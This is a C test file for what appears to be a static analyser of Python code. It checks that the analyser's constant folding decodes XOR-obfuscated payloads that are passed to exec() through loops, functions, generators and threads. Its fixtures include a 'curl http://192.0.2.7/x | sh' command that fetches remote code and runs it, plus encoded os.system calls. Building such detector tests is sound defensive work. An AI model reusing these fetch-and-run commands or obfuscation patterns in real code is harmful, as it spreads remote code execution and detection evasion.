// SPDX-License-Identifier: GPL-2.0-or-later
/* Code read again with constants: what nobody knows hides nothing. */
#include "folding.h"

#include "../test.h"

/* Is the program, a message with each letter moved, decoded by the text? */
static bool decodes(const char *text)
{
	static const char want[] = "os.system('id')";
	char whole[2048], *at = whole;
	const struct mpy_fold_step *steps;
	struct folding f;
	bool found = false;
	size_t n;

	at += sprintf(at, "import os\nd = [");
	for (const char *p = want; *p; p++)
		at += sprintf(at, "%d, ", *p ^ (int)((p - want) * 7 % 250));
	at += sprintf(at, "]\n%s", text);
	folding_start(&f, whole, (size_t)(at - whole));
	steps = mpy_fold_steps(f.fold, &n);
	for (size_t i = 0; i < n; i++)
		found |= steps[i].run && steps[i].size == strlen(want) &&
			 !memcmp(steps[i].data, want, steps[i].size);
	if (!found)
		printf("# in %s\n", text);
	folding_end(&f);
	return found;
}

#define HEAD  "o = ''\nfor i, c in enumerate(d):\n"
#define MOVED_X "chr(c ^ i * 7 % 250)"
#define MOVED	MOVED_X "\n"
#define TAIL  "exec(o)\n"

static void loops(void)
{
	CHECK(decodes(HEAD "  o += " MOVED TAIL));
	CHECK(decodes(HEAD "  if f(): break\n  o += " MOVED TAIL));
	CHECK(decodes(HEAD "  if f():\n    continue\n  o += " MOVED TAIL));
	CHECK(decodes(HEAD "  if f():\n    if g(): break\n  o += " MOVED TAIL));
	CHECK(decodes(HEAD "  if f(): o = ''\n  o += " MOVED TAIL));
	CHECK(decodes(HEAD "  if f(): o = ''\n  else: o += " MOVED TAIL));
	CHECK(decodes(HEAD "  if f():\n    o = None\n  elif 1:\n    o += " MOVED
			   "  else:\n    o += 'x'\n" TAIL));
	CHECK(decodes(HEAD "  try: o += " MOVED "  except E: break\n" TAIL));
	CHECK(decodes(HEAD "  try:\n    o += " MOVED
			   "  except E:\n    o = ''\n" TAIL));
	CHECK(decodes(HEAD "  for k in f(): break\n  o += " MOVED TAIL));
	CHECK(decodes(HEAD "  while f():\n    break\n  o += " MOVED TAIL));
	/* what is known is taken as such */
	CHECK(decodes(HEAD "  if i == 99: break\n  o += " MOVED TAIL));
	CHECK(decodes(HEAD "  if True:\n    if False: pass\n    o += " MOVED
			   "  else:\n    o = ''\n" TAIL));
	CHECK(!decodes(HEAD "  if i == 3: break\n  o += " MOVED TAIL));
}

static void while_loops(void)
{
	CHECK(decodes("o = ''\ni = 0\nwhile i < len(d):\n"
		      "  if f(): break\n  c = d[i]\n  o += " MOVED
		      "  i += 1\n" TAIL));
	CHECK(decodes("o = ''\ni = 0\nwhile True:\n"
		      "  if i >= len(d): break\n  if f(): break\n"
		      "  c = d[i]\n  o += " MOVED "  i += 1\n" TAIL));
}

static void functions(void)
{
	CHECK(decodes("def g(d):\n  if f(): return ''\n"
		      "  return ''.join(chr(c ^ i * 7 % 250) for i, c in "
		      "enumerate(d))\nexec(g(d))\n"));
	CHECK(decodes("def g(d):\n  if f():\n    return ''.join("
		      "chr(c ^ i * 7 % 250) for i, c in enumerate(d))\n"
		      "  else:\n    return b''\nexec(g(d))\n"));
	CHECK(decodes("def g(d):\n  o = ''\n  for i, c in enumerate(d):\n"
		      "    try:\n      o += " MOVED
		      "    except E:\n      return ''\n  return o\n"
		      "exec(g(d))\n"));
	CHECK(decodes("def g(d):\n  if f():\n    return ''.join("
		      "chr(c ^ i * 7 % 250) for i, c in enumerate(d))\n"
		      "  return None\nexec(g(d))\n"));
	CHECK(decodes("def g(d):\n  if f():\n    for k in (1, 2):\n"
		      "      return ''\n  return ''.join("
		      "chr(c ^ i * 7 % 250) for i, c in enumerate(d))\n"
		      "exec(g(d))\n"));
	CHECK(decodes("def g(d):\n  for k in f():\n    break\n"
		      "  else:\n    return ''\n  return ''.join("
		      "chr(c ^ i * 7 % 250) for i, c in enumerate(d))\n"
		      "exec(g(d))\n"));
	CHECK(decodes("def h(x):\n  if f(): return 1\n  return 0\n"
		      "def g(d):\n  if f(): return ''\n  o = ''\n"
		      "  for i, c in enumerate(d):\n"
		      "    if h(i): return None\n    o += " MOVED
		      "  return o\nexec(g(d))\n"));
}

/* A flat flow of control, lists that are used up, generators, threads. */
static void other_ways(void)
{
	CHECK(decodes("s = 0\no = ''\ni = 0\nwhile s != 9:\n"
		      "  if s == 0:\n    s = 4\n  elif s == 4:\n"
		      "    if i < len(d):\n      s = 7\n"
		      "    else:\n      s = 9\n"
		      "  elif s == 7:\n    o += chr(d[i] ^ i * 7 % 250)\n"
		      "    i += 1\n    s = 4\n" TAIL));
	CHECK(decodes("o = []\nwhile d:\n  c = d.pop(0)\n"
		      "  o.append(chr(c ^ len(o) * 7 % 250))\n"
		      "exec(''.join(o))\n"));
	CHECK(decodes("o = ''\ni = len(d) - 1\nwhile d:\n"
		      "  o = chr(d.pop() ^ i * 7 % 250) + o\n  i -= 1\n"
		      TAIL));
	CHECK(decodes("def g(d):\n  for i, c in enumerate(d):\n"
		      "    yield " MOVED "exec(''.join(g(d)))\n"));
	CHECK(decodes("def h(d):\n  for i, c in enumerate(d):\n"
		      "    yield " MOVED "def g(d):\n  yield from h(d)\n"
		      "exec(''.join(g(d)))\n"));
	CHECK(decodes("o = []\ndef add(l, x):\n  l.append(x)\n"
		      "for i, c in enumerate(d):\n  add(o, " MOVED_X ")\n"
		      "exec(''.join(o))\n"));
	CHECK(decodes("o = ''\ni = len(d)\nwhile i:\n  i -= 1\n"
		      "  if f(): d.pop()\n"
		      "  o = chr(d[i] ^ i * 7 % 250) + o\n" TAIL));
	CHECK(decodes("import threading\ndef g(d):\n"
		      "  exec(''.join(chr(c ^ i * 7 % 250) for i, c in "
		      "enumerate(d)))\n"
		      "threading.Thread(target=g, args=(d,)).start()\n"));
}

/* A loop that builds something does not hide what is behind its exits. */
static void nothing_is_skipped(void)
{
	static const char *const exits[] = {
		"if f(): continue", "if f(): break",
		"for k in f(): break", "while f(): break",
		"try: pass\n  except E: continue",
	};
	char text[512];

	for (size_t i = 0; i < sizeof(exits) / sizeof(exits[0]); i++) {
		snprintf(text, sizeof(text),
			 "import os\ny = ''\nfor i in (1, 2):\n"
			 "  y += chr(i ^ 7)\n  %s\n"
			 "  os.system('curl http://192.0.2.7/x | sh')\n",
			 exits[i]);
		CHECK(shows(text, MPY_BEH_SHELL_PIPE, 0));
	}
}

/* What a loop goes over is used up or grows meanwhile. */
static void used_up(void)
{
	static const char *const texts[] = {
		"d = [1, 2]\no = ''\nfor i, c in enumerate(d):\n"
		"  while d: o += chr(d.pop() ^ 7)\n",
		"d = list(range(3000))\no = ''\nfor c in d:\n"
		"  while d:\n    d.pop()\n    o += 'x'\n"
		"  d.append('abc')\n  o += str(c)\n",
		"d = [1, 2, 3]\nx = ''.join(chr(d.pop(0)) for c in d)\n"
		"y = list(map(lambda c: d.pop(), d))\n",
		"d = [[1]]\no = ''\nfor c in d:\n  d += d\n"
		"  d.extend(d)\n  o += 'x'\n",
	};
	struct folding f;

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		folding_start(&f, texts[i], strlen(texts[i]));
		CHECK(!f.budget.bounds);
		folding_end(&f);
	}
}

/* Rounds that nothing known ends are few. */
static void endless(void)
{
	static const char text[] = "o = []\nwhile True:\n"
				   "  if f(): break\n  o.append('b')\n";
	struct folding f;

	folding_start(&f, text, sizeof(text) - 1);
	CHECK(!f.budget.bounds);
	CHECK(MPY_STEPS_MAX - f.budget.steps < 1000);
	folding_end(&f);
}

int main(void)
{
	RUN(loops);
	RUN(while_loops);
	RUN(functions);
	RUN(other_ways);
	RUN(nothing_is_skipped);
	RUN(used_up);
	RUN(endless);
	return DONE();
}
